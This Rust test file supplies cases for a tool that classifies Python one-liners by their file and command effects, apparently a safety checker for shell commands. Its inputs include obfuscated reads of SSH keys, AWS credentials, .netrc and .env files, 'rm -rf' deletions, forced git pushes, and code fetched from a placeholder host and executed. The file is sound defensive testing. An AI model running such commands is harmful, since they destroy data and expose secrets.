//! Programs in Python.

use super::table;

#[test]
fn files() {
    table(
        "python3 -c",
        r#"
        import shutil; shutil.rmtree("victim") => deletes victim
        from shutil import rmtree; rmtree("victim") => deletes victim
        from shutil import rmtree as r; r("victim") => deletes victim
        import shutil as s; s.rmtree("victim", ignore_errors=True) => deletes victim
        from shutil import *; rmtree("victim") => deletes victim
        import shutil; f = shutil.rmtree; f("victim") => deletes victim
        import shutil; shutil.rmtree(path="victim") => deletes victim
        import random; random._os.unlink("a") => deletes a
        import uuid; uuid.os.remove("a") => deletes a
        import warnings; warnings.sys.modules["os"].remove("a") => deletes a
        import os, textwrap; os.remove(textwrap.dedent("  a")) => deletes a
        import os⏎def g():⏎ x = yield⏎ os.remove(x)⏎i = g(); next(i); i.send("a") => deletes os.remove(x)
        print.__class__.__init__.__globals__["remove"]("a") => ? Computed anything
        import xml.etree.ElementTree as E; E.ElementTree(E.Element("a")).write("a") => ? Library named
        import random; random.seed(1); print(random.random()) =>
        import shutil; getattr(shutil, "rm" + "tree")("victim") => deletes victim
        __import__("shutil").rmtree("victim") => deletes victim
        import importlib; importlib.import_module("shutil").rmtree("victim") => deletes victim
        import shutil; vars(shutil)["rmtree"]("victim") => ? Computed anything
        import shutil; shutil.__dict__["rmtree"]("victim") => deletes victim
        import os; os.remove("victim") => deletes victim
        import os; os.unlink("victim") => deletes victim
        import os; os.rmdir("victim") => deletes victim
        import os; os.removedirs("a/victim") => deletes a/victim
        from os import remove, unlink as u; u("victim") => deletes victim
        import os; [os.remove(f) for f in ["a", "b"]] => deletes a; deletes b
        import os; list(map(os.remove, ["a", "b"])) => deletes a; deletes b
        import os⏎for f in ("a", "b"):⏎  os.remove(f) => deletes a; deletes b
        import os⏎for i, f in [(1, "a"), (2, "b")]:⏎  os.remove(f) => deletes a; deletes b
        import os⏎for i in range(1, 5, 3):⏎  os.remove(f"a{i}") => deletes a1; deletes a4
        import os⏎for i in range(100):⏎  os.remove(f"a{i}") => deletes a…
        import os⏎for i in range(2, 0, -1):⏎  os.remove("a" + str(i)) => deletes a…
        import os⏎for f in os.scandir("d"):⏎  os.remove(f.path) => deletes d below
        import os⏎for f in os.listdir("d"):⏎  os.remove(os.path.join("d", f)) => deletes d/os.listdir("d")
        import os, glob⏎for f in glob.glob("*.log"): os.remove(f) => deletes *.log
        import os⏎for root, dirs, files in os.walk("d"):⏎  for f in files: os.remove(os.path.join(root, f)) => deletes d below
        from pathlib import Path; Path("victim").unlink() => deletes victim
        from pathlib import Path; (Path("a") / "victim").unlink(missing_ok=True) => deletes a/victim
        from pathlib import Path; Path("a", "victim").rmdir() => deletes a/victim
        from pathlib import Path; (Path.home() / ".ssh" / "id_rsa").read_text() => reads /home/dev/.ssh/id_rsa
        from pathlib import Path; print(Path("~/.ssh/id_rsa").expanduser().read_text()) => reads /home/dev/.ssh/id_rsa
        import pathlib; pathlib.Path("a").write_text("x") => writes a
        import pathlib; pathlib.Path("a/b").parent.joinpath("c").touch() => writes a/c
        import pathlib; [p.unlink() for p in pathlib.Path(".").glob("*.pyc")] => deletes ./*.pyc
        import pathlib⏎for p in pathlib.Path("d").rglob("*.pyc"):⏎  p.unlink() => deletes d below +*.pyc
        import pathlib⏎for p in pathlib.Path("d").glob("**/*.pyc"): p.unlink() => deletes d below +*.pyc
        import glob, os⏎for f in glob.glob("d/**/*.o", recursive=True): os.remove(f) => deletes d below +*.o
        import os⏎for f in os.listdir("d"):⏎  if f.endswith(".o"):⏎    os.remove(os.path.join("d", f)) => deletes d/os.listdir("d").o
        import os⏎for f in os.listdir("d"):⏎  if not f.endswith((".o", ".a")):⏎    continue⏎  os.remove("d/" + f) => deletes d/os.listdir("d").o; deletes d/os.listdir("d").a
        import os⏎for f in os.listdir("d"):⏎  if f.endswith(".o"): pass⏎  os.remove("d/" + f) => deletes d/os.listdir("d").o; deletes d/os.listdir("d")
        import os⏎[os.remove("d/" + f) for f in os.listdir("d") if f.endswith(".o")] => deletes d/os.listdir("d").o
        import os⏎for r, _, fs in os.walk("d"):⏎  for f in fs:⏎    if f == "x": os.remove(r + "/" + f) => deletes d below +*x
        import os⏎for f in os.listdir("d"):⏎  if f in ("x", "y"): os.remove("d/" + f) => deletes d/os.listdir("d")x; deletes d/os.listdir("d")y
        import os⏎for r, _, fs in os.walk("d"):⏎  for f in filter(lambda f: f.endswith(".o"), fs): os.remove(os.path.join(r, f)) => deletes d below +*.o
        import pathlib⏎for p in pathlib.Path("d").iterdir():⏎  if p.suffix == ".o": p.unlink() => deletes d below +*.o
        import pathlib⏎for p in pathlib.Path("d").iterdir():⏎  if p.suffix != ".o": continue⏎  p.unlink() => deletes d below +*.o
        import pathlib; pathlib.Path("a").rename("b") => reads a; deletes a; writes b
        import os; os.rename("a", "b") => reads a; deletes a; writes b
        import os; os.replace("a", "b") => reads a; deletes a; writes b
        import shutil; shutil.move("a", "b") => reads a; deletes a; writes b; writes b/a maybe
        import shutil; shutil.copy("a", "b") => reads a; writes b; writes b/a maybe
        import shutil; shutil.copytree("a", "b") => reads a; writes b
        import os; os.makedirs("a/b", exist_ok=True) => writes a/b
        import os; os.chmod("a", 0o600) => writes a
        import os; os.truncate("a", 0) => writes a
        import os; os.symlink("a", "b") => reads a; writes b; writes b/a maybe
        open("a") => reads a
        print(open("/etc/passwd").read()) => reads /etc/passwd
        open("a", "w") => writes a
        open("a", mode="w").write("x") => writes a
        open(file="a", mode="a") => writes a
        open("a", "r+") => reads a; writes a
        open("a", "rb") => reads a
        with open("a") as f, open("b", "w") as g: g.write(f.read()) => reads a; writes b
        import io; io.open("a", "w") => writes a
        import codecs; codecs.open("a", "r", "utf8") => reads a
        import os; os.open("a", os.O_RDONLY) => reads a
        import os; os.open("a", os.O_WRONLY | os.O_CREAT) => writes a
        import json; print(json.load(open("a.json"))) => reads a.json
        import json; json.dump({}, open("a.json", "w")) => writes a.json
        import os; open(os.path.expanduser("~/.aws/credentials")).read() => reads /home/dev/.aws/credentials
        import os; open(os.environ["HOME"] + "/.netrc").read() => reads /home/dev/.netrc
        import os; open(os.getenv("HOME") + "/.netrc") => reads /home/dev/.netrc
        import os; open(os.path.join(os.environ["HOME"], ".netrc")) => reads /home/dev/.netrc
        import os; open(f"{os.environ['HOME']}/.netrc") => reads /home/dev/.netrc
        import os; open("%s/.netrc" % os.environ["HOME"]) => reads /home/dev/.netrc
        import os; open("{}/.netrc".format(os.environ["HOME"])) => reads /home/dev/.netrc
        import os; open(os.environ.get("X", "a") ) => reads $X; reads a
        import os; open(os.environ["X"] + "/a") => reads $X/a
        p = "/".join(["a", "b"]); open(p) => reads a/b
        p = "a"; p += "/b"; open(p) => reads a/b
        a, b = "x", "y"; open(b) => reads y
        open("." + "e" + "nv") => reads .env
        open("\x2eenv") => reads .env
        open(chr(46) + "env") => reads …env
        import base64; open(base64.b64decode("LmVudg==").decode()) => reads .env
        open(bytes.fromhex("2e656e76").decode()) => reads .env
        open(".ENV".lower()) => reads open(".ENV".lower())
        open(".env.bak".replace(".bak", "")) => reads .env
        import os; os.remove("vxctxm".replace("x", "i")) => deletes victim
        import os; os.remove("vxctxm".replace("x", "i", 1)) => deletes os.remove("vxctxm".replace("x", "i", 1))
        import os; os.remove("a b\nc".splitlines()[0]) => deletes a b
        import os; os.remove("a,b,c".split(",", 1)[1]) => deletes os.remove("a,b,c".split(",", 1)[1])
        import os; os.remove(" a".rstrip()) => deletes  a
        open(["a", ".env"][1]) => reads .env
        open({"k": ".env"}["k"]) => reads .env
        open({"k": ".env"}.get("k")) => reads .env
        d = dict(); d["k"] = ".env"; open(d["k"]) => reads open(d["k"])
        d = {}; d["k"] = ".env"; open(d["k"]) => reads .env
        l = []; l.append(".env"); open(l[0]) => reads .env
        l = []; m = l; m.append(".env"); open(l[0]) => reads .env
        import os; os.chdir("d"); open("a") => reads d/a
        import os; os.chdir("/d"); os.remove("a") => deletes /d/a
        import os; os.chdir(input()); open("a") => reads os.chdir(input())/a
        x = ".env" if len("a") else "b"; open(x) => reads .env; reads b
        x = None or ".env"; open(x or "b") => reads .env; reads b
        def f(p): open(p)⏎f("a"); f(p="b") => reads a; reads b
        def f(p="a"): open(p)⏎f() => reads a
        def f(*ps):⏎  for p in ps: open(p)⏎f("a", "b") => reads a; reads b
        def f(): return ".env"⏎open(f()) => reads .env
        def f(x): return lambda: open(x)⏎f("a")() => reads a
        f = lambda p: open(p); f("a") => reads a
        class A:⏎  def __init__(self, p): self.p = p⏎  def go(self): open(self.p)⏎A("a").go() => reads a
        def f():⏎  yield "a"⏎  yield "b"⏎for p in f(): open(p) => reads a; reads b
        def main():⏎  open("a")⏎if __name__ == "__main__":⏎  main() => reads a
        try:⏎  open("a")⏎except OSError as e:⏎  open("b")⏎finally:⏎  open("c") => reads a; reads b; reads c
        while True:⏎  open("a")⏎  break => reads a
        x = "a"⏎while x:⏎  open(x); x = input() => reads open(x)
        import sys⏎if sys.argv[1:]: open("a")⏎elif 1: open("b")⏎else: open("c") => reads a; reads b; reads c
        match 1:⏎  case 1: open("a")⏎  case _: open("b") => reads a; reads b
        import threading; threading.Thread(target=open, args=("a",)).start() => reads a
        import atexit, os; atexit.register(os.remove, "a") => deletes a
        import functools, os; functools.partial(os.remove, "a")() => deletes a
        from concurrent.futures import ThreadPoolExecutor as T, as_completed; import os; T().submit(os.remove, "a") => deletes a
        import tempfile, os; os.remove(tempfile.mkstemp()[1]) => deletes /tmp/mktemp
        import tempfile, os; fd, p = tempfile.mkstemp(); os.remove(p) => deletes /tmp/mktemp
        import tempfile, os; f = tempfile.NamedTemporaryFile(delete=False); os.unlink(f.name) => deletes /tmp/mktemp
        import zipfile; zipfile.ZipFile("a.zip") => reads a.zip
        import tarfile; tarfile.open("a.tar", "w:gz") => writes a.tar
        import sqlite3; sqlite3.connect("a.db") => writes a.db; reads a.db
        import logging; logging.FileHandler("a.log", "w") => writes a.log
        import logging.handlers as h; h.RotatingFileHandler("a.log", maxBytes=9) => writes a.log
        import pandas as pd; pd.read_csv("a.csv") => reads a.csv
        import urllib.request; urllib.request.urlretrieve("https://h/x", "a") => writes a
        import os; os.utime("a", None) => writes a
        import shutil; shutil.unpack_archive("a.tar", "d") => reads a.tar; writes d
        "#,
    );
}

#[test]
fn commands() {
    table(
        "python3 -c",
        r#"
        import os; os.system("git push -f") => runs git push -f
        import os; os.system("rm -rf " + "victim") => runs rm -rf victim; deletes victim
        import os; os.system(f"rm -rf {'victim'}") => runs rm -rf victim; deletes victim
        import os; os.popen("git push -f").read() => runs git push -f
        import paramiko; c = paramiko.SSHClient(); c.exec_command("git push -f") => runs git push -f
        from fabric import Connection; Connection("h").run("git push -f") => runs git push -f
        import subprocess; subprocess.run(["git", "push", "-f"]) => runs git push -f
        import subprocess; subprocess.run("git push -f", shell=True) => runs git push -f
        import subprocess; subprocess.run("git push -f".split()) => runs git push -f
        import subprocess as sp; sp.check_output(["git", *["push", "-f"]]) => runs git push -f
        from subprocess import Popen, PIPE; Popen(["git", "push", "-f"], stdout=PIPE).communicate() => runs git push -f
        import subprocess; cmd = ["git"]; cmd.append("push"); cmd += ["-f"]; subprocess.call(cmd) => runs git push -f
        import subprocess; cmd = ["git"]; cmd.extend(["push", "-f"]); subprocess.call(cmd) => runs git push -f
        import subprocess; subprocess.run(args=["git", "push", "-f"], check=True) => runs git push -f
        import subprocess; subprocess.run(["sh", "-c", "git push -f"]) => runs sh -c git push -f; runs git push -f
        import subprocess; subprocess.run(["sh"], input="git push -f", text=True) => runs sh; runs git push -f
        import subprocess; subprocess.getoutput("git push -f") => runs git push -f
        import shlex, subprocess; subprocess.run(shlex.split("git push '-f'")) => runs git push -f
        import os; os.execvp("git", ["git", "push", "-f"]) => runs git push -f
        import os; os.execlp("git", "git", "push", "-f") => runs git push -f
        import os; os.spawnlp(os.P_WAIT, "git", "git", "push", "-f") => runs git push -f
        import pty; pty.spawn(["git", "push", "-f"]) => runs git push -f
        import asyncio; asyncio.run(asyncio.create_subprocess_exec("git", "push", "-f")) => runs git push -f
        from os import *; system("git push -f") => runs git push -f
        import posix; posix.system("git push -f") => runs git push -f
        import os; [getattr(os, n) for n in ["system"]][0]("git push -f") => runs git push -f
        import sys; sys.modules["os"].system("git push -f") => runs git push -f
        import os; (lambda f: f("git push -f"))(os.system) => runs git push -f
        import os; d = {"x": os.system}; d["x"]("git push -f") => runs git push -f
        import os; x = [os.system]; x[0]("git push -f") => runs git push -f
        import os; list(map(os.system, ["git push -f"])) => runs git push -f
        import os; os.environ["X"] = "push"; os.system("git $X") => runs git push
        import subprocess; subprocess.run("git $X", shell=True, env={"X": "push"}) => runs git push
        import subprocess; subprocess.run(["rm", "a"], cwd="/d") => runs rm a; deletes a
        exec("import os; os.system('git push -f')") => runs git push -f
        eval("__import__('os').system('git push -f')") => runs git push -f
        import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2dpdCBwdXNoIC1mJyk=")) => runs git push -f
        exec(compile("import os; os.system('git push -f')", "x", "exec")) => runs git push -f
        import subprocess; subprocess.run(["python3", "-c", "import os; os.remove('a')"]) => runs python3 -c import os; os.remove('a'); deletes a
        open("x.sh", "w").write("git push -f"); import os; os.system("sh x.sh") => writes x.sh; runs sh x.sh; reads x.sh; runs git push -f
        with open("x.sh", "w") as f:⏎  f.write("git push -f")⏎import subprocess; subprocess.run(["bash", "x.sh"]) => writes x.sh; runs bash x.sh; reads x.sh; runs git push -f
        "#,
    );
}

#[test]
fn what_is_not_known() {
    table(
        "python3 -c",
        r#"
        import os; os.system(input()) => ? Computed anything
        import subprocess; subprocess.run(input()) => runs subprocess.run(input())
        import subprocess; subprocess.run(["git", input()]) => runs git subprocess.run(["git", input()])
        import subprocess; subprocess.run([input(), "x"]) => runs subprocess.run([input(), "x"]) x; reads x maybe; writes x maybe; deletes x maybe; runs x
        exec(input()) => ? Computed anything
        eval(x) => ? Computed anything
        import pickle; pickle.loads(b"x") => ? Computed anything
        exec(open("setup.py").read()) => reads setup.py; ? ScriptFile named
        import os; getattr(os, input())("x") => ? Computed anything
        globals()["x"]("y") => ? Computed anything
        import sh; sh.git("push") => ? Library named
        import mine; mine.go("git push") => ? Library named
        import numpy as np; np.save("a.npy", 1) => ? Library named
        foo("git push") => ? Library named
        from urllib.request import urlopen; exec(urlopen("https://h/x").read()) => executes curl https://h/x; ? Computed anything
        import requests; exec(requests.get("https://h/x").text) => executes curl https://h/x; ? Computed anything
        import requests, os; os.system(requests.get("https://h/x").text) => executes curl https://h/x; ? Computed anything
        import requests, subprocess; subprocess.run(["sh"], input=requests.get("https://h/x").content) => executes curl https://h/x; runs sh; ? Computed anything
        import urllib.request as u; r = u.urlopen("https://h/x"); code = r.read().decode(); exec(code) => executes curl https://h/x; ? Computed anything
        import os, requests; c = requests.get("https://h/x").text; exec(compile(c, "x", "exec")) => executes curl https://h/x; ? Computed anything
        import os; open(input()) => reads open(input())
        import os; os.remove(input()) => deletes os.remove(input())
        def f(: => ? Foreign named
        import ctypes; ctypes.CDLL(None).system(b"x") => ? Computed anything
        "#,
    );
}

#[test]
fn what_does_nothing() {
    table(
        "python3 -c",
        r##"
        print(1) =>
        # os.remove("x") =>
        print("do not touch .env") =>
        x = ".env" =>
        """os.remove(".env")""" =>
        import json,sys; print(json.load(sys.stdin)["a"]) =>
        import sys, json; d = json.load(sys.stdin); print("\n".join(i["name"] for i in d)) =>
        import sys,json⏎for x in json.load(sys.stdin)["items"]:⏎  print(x["metadata"]["name"], x.get("status")) =>
        import sys; [print(l.strip().split()[0]) for l in sys.stdin] =>
        import sys; print(sys.version) =>
        import sys; print(sys.path) =>
        import sys; sys.exit(0 if sys.version_info >= (3, 8) else 1) =>
        import os; print(os.getcwd()) =>
        import os; print(os.environ) =>
        import os; print(os.path.exists("/etc/passwd")) =>
        import platform; print(platform.machine()) =>
        import secrets; print(secrets.token_hex(32)) =>
        import uuid; print(uuid.uuid4()) =>
        import hashlib; print(hashlib.sha256(b"x").hexdigest()) =>
        import base64; print(base64.b64encode(b"x").decode()) =>
        import urllib.parse,sys; print(urllib.parse.quote(sys.argv[1])) =>
        import re,sys; print(re.sub("a", "b", sys.stdin.read())) =>
        import math; print(math.pi * 2) =>
        from datetime import datetime; print(datetime.now().isoformat()) =>
        import time; time.sleep(1) =>
        from collections import Counter; print(Counter("abc").most_common(2)) =>
        import statistics; print(statistics.mean([1, 2])) =>
        print(sum(x**2 for x in range(10))) =>
        print(sorted({"b": 1, "a": 2}.items(), key=lambda kv: kv[1])) =>
        print("a" * 3, 1 / 2, 7 % 2, not 1, -1, 1 < 2, "a" in "abc") =>
        def f(n): return 1 if n < 2 else n * f(n - 1)⏎print(f(5)) =>
        def unused(): __import__("os").remove("x") =>
        import ast,sys; ast.parse(sys.stdin.read()) =>
        import csv, sys; print(list(csv.reader(sys.stdin))) =>
        import yaml,sys; yaml.safe_load(sys.stdin) =>
        import tomllib; print(tomllib.loads("a = 1")) =>
        import string, random; print("".join(random.choice(string.ascii_letters) for _ in range(8))) =>
        import textwrap; print(textwrap.fill("x" * 100)) =>
        import itertools; print(list(itertools.product([1, 2], [3]))) =>
        import inspect, json; print(inspect.getsource(json)) =>
        class A:⏎  x = 1⏎print(A.x, A().x) =>
        x = [i for i in range(3) if i]; x.sort(); x.pop(); print(x) =>
        d = {}; d.setdefault("a", []).append(1); print(d) =>
        import sys⏎try:⏎  import numpy⏎except ImportError:⏎  sys.exit(1) =>
        import socket; print(socket.gethostname()) =>
        import shutil; print(shutil.which("git")) =>
        import os; print(os.cpu_count(), os.getpid()) =>
        import requests; print(requests.get("https://h/x").json()) =>
        from urllib.request import urlopen; print(urlopen("https://h/x").status) =>
        print("rm -rf /", "git push -f") =>
        print(f"{'a':>10} {1.5:.2f}") =>
        import logging; logging.basicConfig(level=logging.INFO); logging.info("x") =>
        import argparse; p = argparse.ArgumentParser(); p.add_argument("--x"); print(p.parse_args([])) =>
        import dataclasses⏎@dataclasses.dataclass⏎class A:⏎  x: int = 1⏎print(A()) =>
        import functools⏎@functools.lru_cache⏎def f(x): return x⏎print(f(1)) =>
        assert 1 == 1 =>
        raise SystemExit(1) =>
        import struct; print(struct.unpack("<I", b"abcd")) =>
        print(*[1, 2], sep=",", end="") =>
        print([*range(3)], {**{"a": 1}}) =>
        import operator; print(operator.add(1, 2)) =>
        x = 5⏎while x > 0:⏎  x -= 1⏎print(x) =>
        import zlib, binascii; print(binascii.crc32(b"x")) =>
        import typing as t⏎x: t.Optional[int] = None⏎print(x) =>
        import enum⏎class E(enum.Enum):⏎  A = 1⏎print(E.A.value) =>
        import xml.etree.ElementTree as E, sys; print(E.fromstring(sys.stdin.read()).tag) =>
        import decimal; print(decimal.Decimal("1.1") + 1) =>
        import calendar; print(calendar.month(2024, 1)) =>
        import getpass; print(getpass.getuser()) =>
        import html; print(html.escape("<")) =>
        print("x".encode().hex()) =>
        import sys; sys.stdout.write("x") =>
        import importlib.metadata as m; print(m.version("pip")) =>
        import importlib.util; print(importlib.util.find_spec("numpy")) =>
        import sysconfig; print(sysconfig.get_paths()) =>
        import site; print(site.getsitepackages()) =>
        help(print) =>
        import this =>
        "##,
    );
}
